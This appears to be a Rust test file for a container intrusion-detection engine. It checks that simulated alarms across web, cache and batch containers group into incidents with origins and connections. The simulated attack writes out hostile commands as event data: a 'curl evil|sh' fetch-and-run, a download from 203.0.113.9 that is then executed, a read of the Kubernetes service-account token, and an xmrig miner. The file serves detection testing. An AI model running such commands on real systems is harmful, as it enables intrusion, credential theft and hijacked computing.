//! A node in small: servers that serve, and an intrusion over three containers among them.

use super::*;
use gabion_model::{
    EventKind,
    event::{
        Child, Credentials, Endpoint, Executable, Fd, FdKind, InImage, Process, Subject, Transport, Value,
        Verdict,
    },
    workload::{Container, ContainerKey},
};
use std::collections::BTreeSet;

const SECOND: u64 = 1_000_000_000;
const WEB: ContainerKey = ContainerKey(1);
const CACHE: ContainerKey = ContainerKey(2);
const BATCH: ContainerKey = ContainerKey(3);

/// Makes events, second by second.
struct Node {
    incidents: Incidents,
    now: u64,
}

impl Node {
    fn new() -> Self {
        let mut node = Self { incidents: Incidents::new(Limits::default()), now: 1000 * SECOND };
        for (key, name) in [(WEB, "web"), (CACHE, "cache"), (BATCH, "batch")] {
            let container =
                Container { key, name: name.to_owned(), id: "0".repeat(64), ..Container::default() };
            node.event(
                1,
                ContainerKey::HOST,
                EventKind::Container,
                0,
                None,
                &[],
                Subject::Container(&container),
            );
        }
        node
    }

    fn task(pid: u32) -> Task {
        Task { pid, tid: pid, start: u64::from(pid) }
    }

    #[expect(clippy::too_many_arguments, reason = "an event has many parts")]
    fn event(
        &mut self,
        pid: u32,
        container: ContainerKey,
        kind: EventKind,
        result: i64,
        fd: Option<FdKind<'_>>,
        args: &[Value<'_>],
        subject: Subject<'_>,
    ) {
        self.now += SECOND / 100;
        self.incidents.event(&Event {
            number: self.now,
            time: self.now,
            cpu: 0,
            kind,
            task: Self::task(pid),
            container,
            result,
            fd: fd.map(|kind| Fd { number: 5, kind, dev: 0, ino: 0 }),
            args,
            subject,
            verdict: Verdict::None,
        });
    }

    fn fork(&mut self, parent: u32, child: u32, container: ContainerKey) {
        let child = Child { task: Self::task(child), vpid: child, thread: false };
        self.event(parent, container, EventKind::Clone, 1, None, &[], Subject::Child(child));
    }

    fn exec(&mut self, pid: u32, container: ContainerKey, command: &str, in_image: InImage) {
        let args: Vec<Vec<u8>> = command.split(' ').map(|word| word.as_bytes().to_vec()).collect();
        let exe = Executable { path: args[0].clone(), in_image, ..Executable::default() };
        let credentials = Credentials { uid: 33, ..Credentials::default() };
        let process = Process { exe, args, credentials, ..Process::default() };
        self.event(pid, container, EventKind::Execve, 0, None, &[], Subject::Process(&process));
    }

    fn run(&mut self, parent: u32, pid: u32, container: ContainerKey, command: &str) {
        self.fork(parent, pid, container);
        self.exec(pid, container, command, InImage::Yes);
    }

    fn open(&mut self, pid: u32, container: ContainerKey, path: &str, flags: u64) {
        let kind = FdKind::File { path: path.as_bytes(), upper: false };
        let args = [Value::Int(5), Value::Int(-100), Value::Bytes(path.as_bytes()), Value::Uint(flags)];
        self.event(pid, container, EventKind::Openat, 5, Some(kind), &args, Subject::None);
    }

    fn socket(&mut self, pid: u32, container: ContainerKey, kind: EventKind, local: &str, remote: &str) {
        let end = |text: &str| {
            let at: std::net::SocketAddr = text.parse().expect("an address");
            Some(Endpoint { address: at.ip(), port: at.port() })
        };
        let fd = FdKind::Inet {
            transport: Transport::Tcp,
            local: end(local),
            remote: end(remote),
            server: Some(kind != EventKind::Connect),
        };
        self.event(pid, container, kind, 0, Some(fd), &[], Subject::None);
    }

    /// The runtime, which belongs to the node, starts the first process of a container.
    fn start(&mut self, pid: u32, container: ContainerKey, command: &str) {
        self.fork(1, pid, ContainerKey::HOST);
        self.exec(pid, container, command, InImage::Yes);
    }

    fn alarm(&mut self, pid: u32, rule: &str, priority: u8, tags: &[&str]) -> u64 {
        self.incidents.alarm(Alarm {
            rule: rule.to_owned(),
            priority,
            time: self.now,
            task: Self::task(pid),
            tags: tags.iter().map(|&tag| tag.to_owned()).collect(),
            message: format!("{rule}, by {pid}"),
        })
    }

    /// What servers do all day: connections served, logs written, a nightly job.
    fn noise(&mut self, round: u32) {
        let port = 20_000 + round % 20_000;
        self.socket(
            100,
            WEB,
            EventKind::Accept4,
            "10.0.0.2:80",
            &format!("198.51.100.{}:{port}", round % 250),
        );
        self.open(100, WEB, "/var/log/nginx/access.log", 0o2001);
        self.socket(100, WEB, EventKind::Connect, &format!("10.0.0.2:{port}"), "10.0.0.3:6379");
        self.socket(200, CACHE, EventKind::Accept, "10.0.0.3:6379", &format!("10.0.0.2:{port}"));
        let job = 50_000 + round;
        self.run(300, job, BATCH, "/usr/bin/report --daily");
        self.open(job, BATCH, "/srv/report.csv", 0o1102);
    }
}

/// The intrusion; tells the pids of all that belongs to it.
fn intrusion(node: &mut Node) -> (Vec<u64>, BTreeSet<u32>) {
    let mut ids = Vec::new();
    node.socket(100, WEB, EventKind::Accept4, "10.0.0.2:80", "203.0.113.9:40001");
    node.run(100, 110, WEB, "/bin/sh -c curl\u{20}evil|sh");
    ids.push(node.alarm(110, "Shell spawned by a server", 2, &["mitre_execution", "T1059.004"]));
    node.run(110, 111, WEB, "/usr/bin/curl -o /tmp/x http://203.0.113.9/x");
    node.socket(111, WEB, EventKind::Connect, "10.0.0.2:50100", "203.0.113.9:80");
    node.open(111, WEB, "/tmp/x", 0o1101);
    node.fork(110, 112, WEB);
    node.exec(112, WEB, "/tmp/x", InImage::No);
    ids.push(node.alarm(112, "Program dropped and executed", 2, &["mitre_persistence", "T1105"]));
    node.open(112, WEB, "/run/secrets/kubernetes.io/serviceaccount/token", 0);
    ids.push(node.alarm(
        112,
        "Service account token read by a tool",
        2,
        &["mitre_credential_access", "T1528"],
    ));
    node.socket(112, WEB, EventKind::Connect, "10.0.0.2:50200", "10.0.0.3:6379");
    node.socket(200, CACHE, EventKind::Accept, "10.0.0.3:6379", "10.0.0.2:50200");
    node.run(200, 210, CACHE, "/bin/sh -c ./miner");
    node.run(210, 211, CACHE, "/tmp/xmrig --donate-level 1");
    ids.push(node.alarm(211, "Crypto miner", 2, &["mitre_impact", "T1496"]));
    node.socket(211, CACHE, EventKind::Connect, "10.0.0.3:50300", "10.0.0.4:9000");
    node.socket(300, BATCH, EventKind::Accept, "10.0.0.4:9000", "10.0.0.3:50300");
    node.run(300, 310, BATCH, "/usr/bin/id");
    (ids, [110, 111, 112, 210, 211, 310, 100, 200, 300].into())
}

fn servers(node: &mut Node) {
    node.start(100, WEB, "/usr/sbin/nginx");
    node.start(200, CACHE, "/usr/bin/redis-server");
    node.start(300, BATCH, "/usr/bin/scheduler");
    for round in 0..200 {
        node.noise(round);
    }
    node.now += 120 * SECOND;
}

fn pids(node: &Node, incident: &Incident) -> BTreeSet<u32> {
    let graph = node.incidents.graph();
    let processes = incident.trace.nodes().filter_map(|id| match graph.node(id)?.kind {
        NodeKind::Process { task, .. } => Some(task.pid),
        _ => None,
    });
    processes.collect()
}

#[test]
fn an_intrusion_over_three_containers_is_one_incident_with_its_origin_and_nothing_else() {
    let mut node = Node::new();
    servers(&mut node);
    let (ids, wanted) = intrusion(&mut node);
    node.now += 120 * SECOND;
    for round in 200..400 {
        node.noise(round);
    }
    assert_eq!(ids, [1, 1, 1, 1]);
    let story = node.incidents.story(1).expect("is there");
    let incident = node.incidents.iter().next().expect("is there");
    assert_eq!(pids(&node, incident), wanted);
    assert_eq!(story.origin, ["It came in by a connection from 203.0.113.9 to nginx in web."]);
    assert_eq!(story.tactics, ["execution", "persistence", "credential_access", "impact"]);
    let clock = |time: u64| format!("{}.{:02}", time / SECOND, time % SECOND / (SECOND / 100));
    insta::assert_snapshot!("intrusion", text(&story, clock));
    insta::assert_snapshot!("intrusion_dot", dot(&mut node.incidents, 1).expect("is there"));
    let svg = svg(&mut node.incidents, 1).expect("is there");
    assert!(svg.starts_with("<svg") && svg.ends_with("</svg>\n"));
}

#[test]
fn two_intrusions_that_have_nothing_in_common_are_two_incidents() {
    let mut node = Node::new();
    servers(&mut node);
    node.socket(100, WEB, EventKind::Accept4, "10.0.0.2:80", "203.0.113.9:40001");
    node.run(100, 110, WEB, "/bin/sh");
    assert_eq!(node.alarm(110, "Shell spawned by a server", 2, &[]), 1);
    node.run(1, 400, BATCH, "/bin/bash");
    assert_eq!(node.alarm(400, "Shell at a terminal in a container", 5, &[]), 2);
    let story = node.incidents.story(2).expect("is there");
    assert_eq!(story.origin, ["Somebody started bash in batch from outside, as `kubectl exec` does."]);
}

#[test]
fn alerts_that_turn_out_to_belong_together_become_one() {
    let mut node = Node::new();
    servers(&mut node);
    node.run(1, 400, WEB, "/bin/bash");
    node.open(400, WEB, "/tmp/tool", 0o1101);
    assert_eq!(node.alarm(400, "Shell at a terminal in a container", 5, &[]), 1);
    // Another shell, of which nothing leads to the first, runs what that has written.
    node.run(1, 500, WEB, "/bin/dash");
    assert_eq!(node.alarm(500, "Shell at a terminal in a container", 5, &[]), 2);
    node.fork(500, 501, WEB);
    node.exec(501, WEB, "/tmp/tool", InImage::No);
    assert_eq!(node.alarm(501, "Program dropped and executed", 2, &[]), 1);
    assert_eq!(node.incidents.iter().len(), 1);
    assert_eq!(node.incidents.iter().next().expect("one").alarms.len(), 3);
}

#[test]
fn the_graph_stays_within_its_limits_and_keeps_what_belongs_to_an_incident() {
    let mut node = Node::new();
    node.incidents = Incidents::new(Limits { nodes: 500, edges: 2000 });
    node.start(100, WEB, "/usr/sbin/nginx");
    node.socket(100, WEB, EventKind::Accept4, "10.0.0.2:80", "203.0.113.9:40001");
    node.run(100, 110, WEB, "/bin/sh");
    node.alarm(110, "Shell spawned by a server", 2, &[]);
    for round in 0..5000 {
        node.run(300, 1000 + round, BATCH, "/usr/bin/report");
        node.open(1000 + round, BATCH, &format!("/srv/{round}"), 0o1102);
    }
    let (nodes, edges) = node.incidents.graph().size();
    assert!(nodes <= 501 && edges <= 2001, "{nodes} {edges}");
    assert!(node.incidents.graph().forgotten > 0);
    let story = node.incidents.story(1).expect("is there");
    assert_eq!(story.origin, ["It came in by a connection from 203.0.113.9 to nginx in container 1."]);
}

#[test]
fn a_program_that_was_renamed_before_it_was_run_leads_to_who_wrote_it() {
    let mut node = Node::new();
    servers(&mut node);
    node.run(1, 400, WEB, "/usr/bin/upload");
    node.open(400, WEB, "/tmp/part", 0o1101);
    let args = [Value::Int(0), Value::Bytes(b"/tmp/part"), Value::Bytes(b"/tmp/run")];
    node.event(400, WEB, EventKind::Rename, 0, None, &args, Subject::None);
    node.run(1, 500, WEB, "/bin/dash");
    node.fork(500, 501, WEB);
    node.exec(501, WEB, "/tmp/run", InImage::No);
    node.alarm(501, "Program dropped and executed", 2, &[]);
    node.incidents.show(1);
    let incident = node.incidents.iter().next().expect("one");
    assert!(pids(&node, incident).contains(&400));
}

/// Seconds of the day of the story, and the rest of what is told of its connections.
fn connections(node: &mut Node, id: u64) -> Vec<String> {
    let told = node.incidents.story(id).expect("is there").connections.expect("this version tells them");
    let line = |one: &Connection| {
        format!("{:?} {} {} {} in {}", one.way, one.client, one.server, one.program, one.container)
    };
    told.iter().map(line).collect()
}

#[test]
fn an_incident_tells_by_which_connections_it_came_and_went_on() {
    let mut node = Node::new();
    servers(&mut node);
    intrusion(&mut node);
    // What the same container does otherwise, and what stays on the node, is none of it.
    let told = connections(&mut node, 1);
    assert_eq!(
        told,
        ["In 203.0.113.9:40001 10.0.0.2:80 nginx in web", "Out 10.0.0.2:50100 203.0.113.9:80 curl in web",]
    );
}

#[test]
fn a_connection_after_the_last_alert_is_news() {
    let mut node = Node::new();
    servers(&mut node);
    node.run(1, 400, WEB, "/bin/bash");
    assert_eq!(node.alarm(400, "Shell at a terminal in a container", 5, &[]), 1);
    assert!(node.incidents.take_touched().is_empty());
    node.noise(1);
    assert!(node.incidents.take_touched().is_empty(), "what a server does all day is none of it");
    node.run(400, 401, WEB, "/usr/bin/psql -h 10.9.0.7");
    node.socket(401, WEB, EventKind::Connect, "10.0.0.2:51000", "10.9.0.7:5432");
    assert_eq!(node.incidents.take_touched(), [1].into());
    assert!(node.incidents.take_touched().is_empty(), "it is told once");
    assert_eq!(connections(&mut node, 1), ["Out 10.0.0.2:51000 10.9.0.7:5432 psql in web"]);
    // A beacon is told a few times.
    for port in 0..100 {
        node.socket(401, WEB, EventKind::Connect, &format!("10.0.0.2:{}", 52_000 + port), "10.9.0.7:5432");
        node.incidents.story(1);
    }
    assert!(connections(&mut node, 1).len() <= KNOWN + 8);
    node.incidents.take_touched();
    node.socket(401, WEB, EventKind::Connect, "10.0.0.2:53000", "10.9.0.7:5432");
    assert!(node.incidents.take_touched().is_empty());
}

#[test]
fn what_a_process_did_all_the_time_before_is_no_connection_of_the_incident() {
    let mut node = Node::new();
    node.start(100, WEB, "/usr/bin/prometheus");
    for round in 0..20 {
        node.socket(100, WEB, EventKind::Connect, &format!("10.0.0.2:{}", 40_000 + round), "10.9.0.7:9100");
        node.now += 15 * SECOND;
    }
    // The scraper itself does something that it should not, and goes on scraping.
    assert_eq!(node.alarm(100, "Write below /etc", 3, &[]), 1);
    node.socket(100, WEB, EventKind::Connect, "10.0.0.2:41000", "10.9.0.7:9100");
    node.socket(100, WEB, EventKind::Connect, "10.0.0.2:41001", "10.9.0.8:22");
    assert_eq!(connections(&mut node, 1), ["Out 10.0.0.2:41001 10.9.0.8:22 prometheus in web"]);
}

#[test]
fn what_stays_on_a_node_or_is_no_tcp_is_no_connection_of_two() {
    let mut node = Node::new();
    servers(&mut node);
    node.run(1, 400, WEB, "/bin/bash");
    node.alarm(400, "Shell at a terminal in a container", 5, &[]);
    node.socket(400, WEB, EventKind::Connect, "127.0.0.1:51000", "127.0.0.1:8080");
    // The other end is on this node, too, and is seen only later.
    node.socket(400, WEB, EventKind::Connect, "10.0.0.2:51001", "10.0.0.3:6379");
    node.socket(200, CACHE, EventKind::Accept, "10.0.0.3:6379", "10.0.0.2:51001");
    let fd = FdKind::Inet {
        transport: Transport::Udp,
        local: Some(Endpoint { address: [10, 0, 0, 2].into(), port: 51_002 }),
        remote: Some(Endpoint { address: [10, 9, 0, 7].into(), port: 53 }),
        server: Some(false),
    };
    node.event(400, WEB, EventKind::Connect, 0, Some(fd), &[], Subject::None);
    assert_eq!(connections(&mut node, 1), [""; 0]);
}

#[test]
fn the_node_is_no_container() {
    let mut node = Node::new();
    servers(&mut node);
    node.exec(900, ContainerKey::HOST, "/usr/bin/bash", InImage::Unknown);
    assert_eq!(node.alarm(900, "A shell", 3, &[]), 1);
    let story = node.incidents.story(1).expect("is there");
    assert_eq!(story.title, "A shell on the node");
    assert_eq!(story.extent[0], "1 processes on the node.");
    // It goes on into a container, over a connection.
    node.socket(900, ContainerKey::HOST, EventKind::Connect, "10.0.0.1:45000", "10.0.0.3:6379");
    node.socket(200, CACHE, EventKind::Accept, "10.0.0.3:6379", "10.0.0.1:45000");
    node.run(200, 210, CACHE, "/bin/sh");
    assert_eq!(node.alarm(210, "Shell spawned by a server", 2, &[]), 1);
    let story = node.incidents.story(1).expect("is there");
    assert_eq!(story.title, "Shell spawned by a server in cache and on the node");
    assert!(story.extent[0].ends_with("processes in cache, and on the node."), "{}", story.extent[0]);
}

#[test]
fn what_a_service_of_the_node_starts_otherwise_is_another_matter() {
    let mut node = Node::new();
    let host = ContainerKey::HOST;
    node.run(1, 10, host, "/usr/sbin/cron");
    node.run(1, 20, host, "/usr/sbin/atd");
    node.run(10, 100, host, "/bin/sh -c backup");
    node.run(100, 101, host, "/usr/bin/tar");
    node.run(100, 102, host, "/usr/bin/curl");
    assert_eq!(node.alarm(101, "Sensitive file read", 4, &[]), 1);
    // Another job, another service, and one that began after all that.
    node.run(10, 200, host, "/bin/sh -c report");
    assert_eq!(node.alarm(200, "Sensitive file read", 4, &[]), 2);
    node.run(20, 300, host, "/bin/sh");
    assert_eq!(node.alarm(300, "Sensitive file read", 4, &[]), 3);
    node.run(1, 30, host, "/usr/sbin/unit");
    node.run(30, 400, host, "/bin/sh");
    assert_eq!(node.alarm(30, "Sensitive file read", 4, &[]), 4);
    for id in 1..=4 {
        node.incidents.show(id);
    }
    let told: Vec<_> = node.incidents.iter().map(|incident| pids(&node, incident)).collect();
    assert_eq!(told, [[10, 100, 101, 102].into(), [10, 200].into(), [20, 300].into(), [1, 30, 400].into()]);
    let mut origin = |id| node.incidents.story(id).expect("is there").origin;
    assert_eq!(origin(1), origin(2));
    assert_eq!(origin(1), ["It began with cron on the node itself."]);
}

#[test]
fn a_story_of_an_agent_that_told_no_connections_is_read() {
    let mut node = Node::new();
    servers(&mut node);
    intrusion(&mut node);
    let mut json = serde_json::to_value(node.incidents.story(1).expect("is there")).expect("JSON");
    json.as_object_mut().expect("an object").remove("connections");
    let story: Story = serde_json::from_value(json).expect("is read");
    assert_eq!(story.connections, None, "not known, which is not the same as none");
}
